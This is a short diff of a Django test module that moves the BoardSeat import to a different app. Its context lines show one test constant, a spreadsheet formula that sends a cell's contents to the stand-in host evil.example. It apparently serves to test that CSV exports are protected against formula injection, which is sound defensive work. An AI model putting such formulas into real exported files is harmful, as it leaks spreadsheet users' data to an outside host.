@@ -14,10 +14,10 @@ from django.urls import reverse
 
 from audit.trail import Action, Outcome, record
 from events.models import Registration
+from exchanges.models import BoardSeat
 from groups import importers
 from groups.models import Meeting
 from liaison import csvio
-from liaison.models import BoardSeat
 from tests.factory import make_event, make_group, make_meeting, make_survey_responses
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
